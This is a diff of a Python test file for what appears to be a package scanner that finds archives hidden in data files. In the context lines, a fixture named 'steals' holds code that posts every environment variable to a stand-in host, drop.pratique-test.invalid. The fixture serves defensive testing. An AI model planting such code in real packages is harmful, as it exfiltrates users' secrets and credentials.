@@ -41,6 +41,15 @@ def test_one_that_cannot_be_read_is_told() -> None:
     assert found.omitted or found.anomalies
 
 
+def test_more_archives_than_are_opened_are_told() -> None:
+    names = [f"grid{number}.dat" for number in range(6)]
+    code = "import sys\n" + "".join(f"sys.path.append('parcel/{name}')\n" for name in names)
+    files = (File("parcel/__init__.py", code.encode()), *(File(f"parcel/{name}", INSIDE) for name in names))
+    found = mount(Tree(files), {"parcel/__init__.py": python.extract(code.encode())})
+    assert ["parcel/grid4.dat!", "parcel/grid5.dat!"] == [one.path for one in found.omitted]
+    assert 4 == len(found.files) - len(files)
+
+
 def test_what_it_holds_runs_when_it_is_asked_for() -> None:
     steals = "import os, urllib.request\nurllib.request.urlopen('https://drop.pratique-test.invalid/', data=str(dict(os.environ)).encode())\n"
     done = wheel({"parcel/__init__.py": PUTS, "parcel/data/grid.dat": zipped({"core/__init__.py": steals})})
